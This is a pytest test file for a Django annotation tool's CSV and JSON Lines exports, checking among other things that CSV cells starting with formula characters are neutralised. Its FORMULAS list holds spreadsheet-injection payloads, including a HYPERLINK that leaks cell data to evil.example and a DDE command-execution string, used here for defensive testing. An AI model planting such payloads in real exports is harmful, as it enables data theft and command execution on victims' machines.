import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotations.exports import CLAIM_COLUMNS, FACT_CSV_COLUMNS, export_lines
from annotations.models import Claim, Contradiction, Fact, Source
from annotations.services import contradiction_flag, fact_reconcile


@pytest.fixture
def fact(seeds, make_claim, user):
    a = make_claim(seeds["000"], "November 2012", subject="asylum offered")
    b = make_claim(seeds["001"], "August 16, 2012")
    contradiction = contradiction_flag(claims=[a, b], user=user)
    return fact_reconcile(contradiction=contradiction, user=user, value_text="16 August 2012",
                          status="reconciled", rationale="Announced by Patiño, “legitimate” fears.",
                          stances={a.pk: "refutes", b.pk: "supports"}, subject="Julian Assange",
                          property="date asylum granted")


def test_fact_csv_has_one_row_per_piece_of_evidence(fact):
    rows = list(csv.DictReader(io.StringIO("".join(export_lines(what="facts", fmt="csv")))))
    assert list(rows[0]) == FACT_CSV_COLUMNS
    assert [(r["stance"], r["exact"], r["source_origin"]) for r in rows] == [
        ("refutes", "November 2012", "000_344638030b921028.txt"),
        ("supports", "August 16, 2012", "001_f668abeb122312ed.txt"),
    ]
    for row in rows:
        assert row["value"] == "16 August 2012" and row["reviewer"] == "rita"
        assert fact.evidence.get(claim_id=row["claim_id"]).claim.source.text[int(row["start"]):int(row["end"])] == row["exact"]


def test_fact_jsonl_carries_evidence(fact):
    records = [json.loads(line) for line in export_lines(what="facts", fmt="jsonl")]
    assert len(records) == 1
    record = records[0]
    assert record["subject"] == "Julian Assange" and record["property"] == "date asylum granted"
    assert record["rationale"] == "Announced by Patiño, “legitimate” fears."
    assert {(e["stance"], e["exact"]) for e in record["evidence"]} == {
        ("refutes", "November 2012"), ("supports", "August 16, 2012")}


def test_claims_csv_and_jsonl_list_every_claim(fact):
    rows = list(csv.DictReader(io.StringIO("".join(export_lines(what="claims", fmt="csv")))))
    assert list(rows[0]) == CLAIM_COLUMNS
    assert [r["exact"] for r in rows] == ["November 2012", "August 16, 2012"]
    assert rows[0]["subject"] == "asylum offered"
    records = [json.loads(line) for line in export_lines(what="claims", fmt="jsonl")]
    assert [r["kind"] for r in records] == ["date", "date"]


def test_export_command_writes_a_file(fact, tmp_path):
    out = tmp_path / "facts.csv"
    call_command("export", "--format", "csv", "--what", "facts", "--output", str(out))
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert {r["exact"] for r in rows} == {"November 2012", "August 16, 2012"}


def test_export_command_to_stdout(fact, capsys):
    call_command("export", "--format", "jsonl", "--what", "claims")
    lines = capsys.readouterr().out.strip().split("\n")
    assert [json.loads(line)["exact"] for line in lines] == ["November 2012", "August 16, 2012"]


# --- formula injection -----------------------------------------------------------------
# A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return, or those
# after spaces, which some importers trim) as a formula: every CSV export neutralises such
# cells; JSON Lines and the archive are data, not spreadsheets, and keep them as they are.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
# Where each table's reviewers (or an imported archive) can put free text.
PLANTED = {
    "claims": (Claim, ["note", "subject"]),
    "sources": (Source, ["title", "publisher"]),
    "facts": (Fact, ["rationale", "subject"]),
    "contradictions": (Contradiction, ["note"]),
}
CSV_COLUMNS = {"claims": "note", "sources": "title", "facts": "rationale", "contradictions": "note"}


@pytest.fixture
def small_world(make_source, make_claim, user):
    a = make_source("Asylum was offered in November 2012 by Ecuador.", name="a.txt")
    b = make_source("Asylum was granted on August 16, 2012 by Ecuador.", name="b.txt")
    nov, aug = make_claim(a, "November 2012"), make_claim(b, "August 16, 2012")
    contradiction = contradiction_flag(claims=[nov, aug], user=user, note="Which date?")
    fact_reconcile(contradiction=contradiction, user=user, value_text="16 August 2012", status="reconciled",
                   rationale="Announced that day.", stances={nov.pk: "refutes", aug.pk: "supports"},
                   subject="Julian Assange")
    return {"claim": nov}


def plant(what: str, payload: str) -> None:
    model, fields = PLANTED[what]
    model.objects.update(**dict.fromkeys(fields, payload))


def csv_by(channel: str, what: str, client, user) -> str:
    if channel == "command":
        out = io.StringIO()
        call_command("export", "--format", "csv", "--what", what, stdout=out)
        return out.getvalue()
    client.force_login(user)
    response = client.get(reverse("export", args=[what, "csv"]))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("channel", ["url", "command"])
@pytest.mark.parametrize("payload", FORMULAS)
@pytest.mark.parametrize("what", list(PLANTED))
def test_csv_cells_that_would_be_formulas_are_neutralised(small_world, client, user, channel, what, payload):
    plant(what, payload)
    rows = list(csv.DictReader(io.StringIO(csv_by(channel, what, client, user), newline="")))
    assert rows
    for row in rows:
        for field in PLANTED[what][1]:
            assert row[field] == "'" + payload, (field, row[field])
        for column, cell in row.items():
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


def test_csv_numbers_stay_numbers(small_world, client, user):
    rows = list(csv.DictReader(io.StringIO("".join(export_lines(what="claims", fmt="csv")))))
    claim = small_world["claim"]
    row = next(r for r in rows if r["claim_id"] == str(claim.pk))
    assert (row["start"], row["end"]) == (str(claim.start), str(claim.end))


@pytest.mark.parametrize("what", list(PLANTED))
def test_json_lines_keep_formula_like_text_as_it_is(small_world, what):
    for payload in FORMULAS:
        plant(what, payload)
        records = [json.loads(line) for line in export_lines(what=what, fmt="jsonl")]
        assert records and all(r[CSV_COLUMNS[what]] == payload for r in records)


def test_archive_keeps_formula_like_text_as_it_is(small_world):
    for what in PLANTED:
        plant(what, FORMULAS[0])
    records = [json.loads(line) for line in export_lines(fmt="archive")]
    assert {r["note"] for r in records if r["type"] in ("claim", "contradiction")} == {FORMULAS[0]}
    assert {r["title"] for r in records if r["type"] == "source"} == {FORMULAS[0]}
    assert {r["rationale"] for r in records if r["type"] == "fact"} == {FORMULAS[0]}
